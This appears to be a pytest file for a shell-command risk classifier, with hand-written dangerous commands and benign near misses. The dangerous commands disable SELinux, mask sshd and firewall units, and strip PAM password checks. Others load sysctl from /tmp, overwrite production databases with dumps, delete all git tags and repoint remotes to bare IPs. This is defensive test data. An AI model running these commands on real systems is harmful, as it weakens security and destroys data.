"""Round 11, probes across families written by hand (not from any corpus): SELinux switched off
by a bare replacement, units masked by a link to /dev/null, alternatives pointed into /tmp,
service accounts given a shell, /tmp closed and /root opened, the log-in password check taken
out (pam-auth-update, authconfig, authselect), kernel settings that accept others' routes or
come from a world-writable file, log-in sessions ended, database dumps loaded over a database,
configuration pulled from a repository and applied (ansible-pull), every tag deleted,
and a remote pointed at a bare address or plain HTTP. Each near miss is the
same tool used narrowly or the other way round.
"""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE, RiskLevel, reaches, stays_within

DANGEROUS: list[tuple[str, RiskLevel]] = [
    ("sudo sed -i 's/enforcing/disabled/' /etc/selinux/config", CRITICAL),
    ("sudo sed -i 's/=enforcing/=permissive/' /etc/sysconfig/selinux", CRITICAL),
    ("sudo ln -sf /dev/null /etc/systemd/system/apt-daily-upgrade.timer", HIGH),
    ("sudo ln -s /dev/null /etc/systemd/system/unattended-upgrades.service", HIGH),
    ("sudo ln -sf /dev/null /etc/systemd/system/sshd.service", HIGH),
    ("sudo ln -sf /dev/null /etc/systemd/system/firewalld.service", HIGH),
    ("sudo update-alternatives --set editor /tmp/x", HIGH),
    ("sudo update-alternatives --install /usr/bin/vi vi /dev/shm/vi 100", HIGH),
    ("sudo usermod -s /bin/bash nobody", HIGH),
    ("sudo usermod --shell /bin/sh www-data", HIGH),
    ("sudo chmod 700 /tmp", HIGH),
    ("sudo chmod o-w /tmp", HIGH),
    ("sudo chmod 755 /root", HIGH),
    ("sudo chmod o+rx /root", HIGH),
    ("sudo pam-auth-update --remove unix", HIGH),
    ("sudo pam-auth-update --disable faillock", HIGH),
    ("sudo authconfig --passalgo=md5 --update", HIGH),
    ("sudo authselect disable-feature with-faillock", HIGH),
    ("sudo sysctl -w net.ipv4.conf.all.accept_redirects=1", HIGH),
    ("sudo sysctl -w net.ipv4.conf.default.accept_source_route=1", HIGH),
    ("sudo sysctl -p /tmp/evil.conf", HIGH),
    ("sudo sysctl --load=/dev/shm/k.conf", HIGH),
    ("sudo loginctl terminate-user alice", HIGH),
    ("sudo loginctl kill-session 2", HIGH),
    ("mysql prod < old_backup.sql", HIGH),
    ("mysql -u root -p prod < /backups/prod_dump.sql", HIGH),
    ("psql -d prod -f backup.sql", HIGH),
    ("ansible-pull -U https://github.com/stranger/playbooks", HIGH),
    ("sudo ansible-pull --url=https://git.example.com/ops.git local.yml", HIGH),
    ("sudo puppet apply https://203.0.113.9/site.pp", HIGH),
    ("git tag -d $(git tag)", HIGH),
    ("git tag -d $(git tag -l 'v*')", HIGH),
    ("git remote set-url origin https://203.0.113.9/repo.git", HIGH),
    ("git remote add backup http://git.example.com/x.git", HIGH),
]

NEAR_MISSES: list[tuple[str, RiskLevel]] = [
    ("sudo sed -i 's/permissive/enforcing/' /etc/selinux/config", MODERATE),
    (
        "sudo ln -sf /etc/systemd/system/myapp.service "
        "/etc/systemd/system/multi-user.target.wants/",
        MODERATE,
    ),
    ("sudo ln -sf /dev/null /etc/systemd/system/myapp.service", MODERATE),
    ("sudo update-alternatives --set editor /usr/bin/vim.basic", MODERATE),
    ("sudo update-alternatives --display editor", SAFE),
    ("sudo usermod -s /bin/zsh alice", MODERATE),
    ("sudo usermod -s /usr/sbin/nologin alice", HIGH),
    ("sudo chmod +t /tmp", MODERATE),
    ("sudo chmod 700 /root", MODERATE),
    ("sudo pam-auth-update --enable mkhomedir", MODERATE),
    ("sudo authconfig --test", SAFE),
    ("authselect current", SAFE),
    ("sudo authselect select sssd with-mkhomedir", MODERATE),
    ("sudo sysctl -w net.ipv4.conf.all.accept_redirects=0", MODERATE),
    ("sudo sysctl -p /etc/sysctl.d/99-custom.conf", MODERATE),
    ("sysctl net.ipv4.conf.all.accept_redirects", SAFE),
    ("loginctl show-user alice", SAFE),
    ("mysql testdb < schema.sql", MODERATE),
    ("psql -d dev -f schema.sql", MODERATE),
    ("mysql prod < ./migrations/001_init.sql", MODERATE),
    ("mysqldump prod > backup.sql", MODERATE),
    ("ansible-pull -U https://git.example.com/ops.git --check", MODERATE),
    ("puppet apply site.pp", MODERATE),
    ("git remote set-url origin git@github.com:me/x.git", MODERATE),
    ("git remote add upstream https://github.com/org/x.git", MODERATE),
]


@pytest.mark.parametrize(("command", "least"), DANGEROUS)
def test_dangerous(command: str, least: RiskLevel) -> None:
    reaches(command, least)


@pytest.mark.parametrize(("command", "highest"), NEAR_MISSES)
def test_near_miss(command: str, highest: RiskLevel) -> None:
    stays_within(command, highest)
